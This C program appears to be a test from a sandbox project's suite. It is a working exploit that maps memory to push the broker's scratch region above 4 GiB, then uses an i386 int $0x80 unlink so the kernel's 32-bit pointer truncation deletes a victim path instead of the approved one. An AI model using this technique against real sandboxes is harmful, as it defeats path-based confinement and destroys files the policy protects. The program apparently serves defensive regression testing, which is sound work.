/* The scratch region pushed above 4 GiB, then an int $0x80 (i386) call of a
 * judged, allowed path: the broker copies the judged path into the region
 * and points ebx at the copy, but the kernel's i386 entry takes only ebx's
 * low 32 bits, where this program put another path.  Built static, so that
 * its first judged call (which makes the region) comes after it filled the
 * MAP_32BIT window [1 GiB, 2 GiB) that the region is otherwise mapped in.
 *
 *   highregion ALLOWED VICTIM  ->  "region high", "unlink R" (the i386
 *   unlink's result of ALLOWED), "victim there|gone" */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

static long int80(long nr, long a) {
    long r;
    __asm__ volatile("int $0x80" : "=a"(r) : "a"(nr), "b"(a) : "memory");
    return r;
}

int main(int argc, char **argv) {
    if (argc != 3)
        return 2;
    setvbuf(stdout, NULL, _IONBF, 0);
    for (unsigned long a = 0x40000000UL; a < 0x80000000UL; a += 0x200000UL)
        mmap((void *)a, 0x200000, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE | MAP_NORESERVE, -1, 0);
    int fd = openat(AT_FDCWD, "./highregion-absent", O_RDONLY);  /* judged and unpinned: the region is made */
    if (fd >= 0)
        close(fd);
    FILE *m = fopen("/proc/self/maps", "r");
    char line[512];
    unsigned long start = 0, end = 0;
    while (m && fgets(line, sizeof line, m))
        if (strstr(line, " r--s ") && strstr(line, "memfd"))
            sscanf(line, "%lx-%lx", &start, &end);
    if (m)
        fclose(m);
    printf("region %s\n", start >> 32 ? "high" : start ? "low" : "none");
    if (!(start >> 32))
        return 0;
    /* where the low 32 bits of every slot's address lead: the victim's path */
    unsigned long size = end - start;
    char *low = mmap((void *)(start & 0xFFFFFFFFUL), size, PROT_READ | PROT_WRITE,
                     MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    char *allowed = mmap((void *)0x10000000UL, 4096, PROT_READ | PROT_WRITE,
                         MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
    if (low == MAP_FAILED || allowed == MAP_FAILED)
        return 3;
    for (unsigned long off = 0; off < size; off += 4096)
        strcpy(low + off, argv[2]);
    strcpy(allowed, argv[1]);
    printf("unlink %ld\n", int80(10 /* i386 unlink */, (long)allowed));
    printf("victim %s\n", access(argv[2], F_OK) == 0 ? "there" : "gone");
    return 0;
}
